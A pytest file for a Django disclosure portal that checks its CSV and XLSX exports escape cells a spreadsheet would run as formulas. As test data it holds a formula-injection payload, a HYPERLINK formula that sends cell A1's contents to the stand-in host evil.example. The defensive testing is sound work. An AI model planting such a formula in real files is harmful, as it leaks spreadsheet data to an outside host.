"""CSV and XLSX exports neutralise cells a spreadsheet would run as a formula
(security.md §8, issue 11 §1.5)."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from portal.exports import csv_row, neutralise_text
from portal.models import Agency
from tests.disclosure.conftest import travel
from tests.disclosure.test_exports import busy_report  # noqa: F401 - a fixture

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+86 cmd", "'+86 cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-1.5", "-1.5"),  # a number written as text stays a number
        ("天元区教育局", "天元区教育局"),
        ("", ""),
    ],
)
def test_neutralise_text(raw, expected):
    assert neutralise_text(raw) == expected


def test_csv_row_leaves_numbers_alone():
    assert csv_row(["=x", -3, 2.5, None]) == ["'=x", -3, 2.5, None]


def test_statistics_csv_escapes_an_agency_name_formula(client, agency):
    Agency.objects.filter(pk=agency.pk).update(name=EVIL)
    with travel(2026, 3, 1, 10):
        response = client.get(
            reverse("disclosure:statistics_csv"), {"agency": agency.pk, "year": "2026"}
        )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == ["范围", "'" + EVIL]
    assert all(not cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def test_xlsx_writes_text_cells_as_strings(client, busy_report, agency):  # noqa: F811
    Agency.objects.filter(pk=agency.pk).update(name=EVIL)
    response = client.get(
        reverse("disclosure:report_download", args=[busy_report.pk, "xlsx"])
    )
    wb = load_workbook(io.BytesIO(response.content))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    heading = wb.worksheets[0]["A1"]
    assert heading.data_type == "s"
    assert heading.value.startswith(EVIL)
    assert any(isinstance(c.value, int) for c in cells)  # numbers stay numbers
